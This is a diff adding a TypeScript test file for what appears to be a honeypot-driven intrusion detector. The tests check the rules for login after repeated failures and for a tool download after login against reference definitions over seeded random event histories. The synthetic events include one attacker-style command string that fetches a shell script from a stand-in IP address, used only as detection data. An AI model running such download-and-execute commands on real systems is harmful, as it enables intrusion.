@@ -1,0 +1,103 @@
+// The two rules about sequences (failures then a login; a login then a download) walk their windows with pointers that
+// only move forward. Here they are checked against their definitions, written the direct way, on random histories:
+// ties, successes without enough failures, triggers anywhere, downloads outside the hour, events out of order.
+import { describe, expect, it } from "vitest";
+import { detectionConfigSchema } from "../config/detectorConfig.ts";
+import type { SecurityEvent } from "../events/securityEvent.ts";
+import type { Detection, RuleInput } from "./detectionRule.ts";
+import { loginAfterFailures, loginAfterFailuresRule } from "./loginAfterFailuresRule.ts";
+import { downloadAfterLoginSeconds, isToolDownload, toolDownloadRule } from "./toolDownloadRule.ts";
+
+const config = detectionConfigSchema.parse({});
+
+/** Failures within the window before a success (at most `windowSeconds` earlier, same time included), one a trigger. */
+function loginAfterFailuresByDefinition({ triggers, events }: RuleInput): string[] {
+  const windowMs = loginAfterFailures.windowSeconds * 1000;
+  const triggerIds = new Set(triggers.map((t) => t.id));
+  const failures = events.filter((e) => e.kind === "auth.failure");
+  const evidence = new Map<string, SecurityEvent>();
+  for (const success of events.filter((e) => e.kind === "auth.success")) {
+    const before = failures.filter((f) => f.time <= success.time && f.time >= success.time - windowMs);
+    if (before.length < loginAfterFailures.failures) continue;
+    if (!triggerIds.has(success.id) && !before.some((f) => triggerIds.has(f.id))) continue;
+    for (const e of [...before, success]) evidence.set(e.id, e);
+  }
+  return [...evidence.values()].sort((a, b) => a.time - b.time).map((e) => e.id);
+}
+
+/** Each download with the latest login at most an hour before it, one of the two a trigger (events taken oldest first, as RuleInput has them). */
+function toolDownloadByDefinition({ triggers, events: given }: RuleInput): string[] {
+  const windowMs = downloadAfterLoginSeconds * 1000;
+  const events = [...given].sort((a, b) => a.time - b.time);
+  const triggerIds = new Set(triggers.map((t) => t.id));
+  const logins = events.filter((e) => e.kind === "auth.success");
+  const evidence = new Map<string, SecurityEvent>();
+  for (const download of events.filter(isToolDownload)) {
+    const login = logins.filter((l) => l.time <= download.time && download.time - l.time <= windowMs).at(-1);
+    if (!login || (!triggerIds.has(download.id) && !triggerIds.has(login.id))) continue;
+    evidence.set(login.id, login);
+    evidence.set(download.id, download);
+  }
+  return [...evidence.values()].sort((a, b) => a.time - b.time).map((e) => e.id);
+}
+
+/** A small deterministic generator, so a failure names a reproducible seed. */
+function random(seed: number): () => number {
+  let s = seed >>> 0;
+  return () => {
+    s = (Math.imul(s ^ (s >>> 15), 0x2c1b3c6d) + 0x6d2b79f5) >>> 0;
+    return s / 2 ** 32;
+  };
+}
+
+function history(seed: number): { events: SecurityEvent[]; triggers: SecurityEvent[] } {
+  const next = random(seed);
+  const n = 1 + Math.floor(next() * 60);
+  const kinds: { kind: SecurityEvent["kind"]; command?: string }[] = [
+    { kind: "auth.failure" }, { kind: "auth.failure" }, { kind: "auth.failure" }, { kind: "auth.success" },
+    { kind: "file.download" }, { kind: "command", command: "wget http://198.51.100.7/x.sh" }, { kind: "command", command: "uname -a" },
+  ];
+  // Times on a coarse grid (ties are common) spanning more than either rule's window.
+  const events = Array.from({ length: n }, (_, i): SecurityEvent => {
+    const { kind, command } = kinds[Math.floor(next() * kinds.length)]!;
+    return {
+      tenant: "default", id: `e${i}`, source: "cowrie", kind, sourceType: kind, time: Math.floor(next() * 30) * 150_000, receivedAt: 0,
+      sourceIp: "203.0.113.5", actor: "", username: "root", ...(command ? { command } : {}),
+    };
+  });
+  const sorted = [...events].sort((a, b) => a.time - b.time);
+  const triggers = events.filter(() => next() < 0.3);
+  // Mostly oldest first, as the engine gives them; sometimes in arrival order, as a direct caller might.
+  return { events: next() < 0.8 ? sorted : events, triggers };
+}
+
+const ids = (detections: Detection[]) => detections.flatMap((d) => d.events.map((e) => e.id));
+
+describe("sequence rules against their definitions", () => {
+  it("login-after-failures finds the same evidence on 2,000 random histories", () => {
+    let detected = 0;
+    for (let seed = 1; seed <= 2000; seed++) {
+      const { events, triggers } = history(seed);
+      const input: RuleInput = { tenant: "default", sourceIp: "203.0.113.5", triggers, events, config };
+      const expected = loginAfterFailuresByDefinition(input);
+      expect({ seed, ids: ids(loginAfterFailuresRule.detect(input)) }).toEqual({ seed, ids: expected });
+      if (expected.length > 0) detected++;
+    }
+    // The histories exercise both outcomes.
+    expect(detected).toBeGreaterThan(200);
+    expect(detected).toBeLessThan(1800);
+  });
+
+  it("tool-download-after-login finds the same evidence on 2,000 random histories", () => {
+    let detected = 0;
+    for (let seed = 1; seed <= 2000; seed++) {
+      const { events, triggers } = history(seed);
+      const input: RuleInput = { tenant: "default", sourceIp: "203.0.113.5", triggers, events, config };
+      const expected = toolDownloadByDefinition(input);
+      expect({ seed, ids: ids(toolDownloadRule.detect(input)) }).toEqual({ seed, ids: expected });
+      if (expected.length > 0) detected++;
+    }
+    expect(detected).toBeGreaterThan(200);
+    expect(detected).toBeLessThan(1800);
+  });
+});
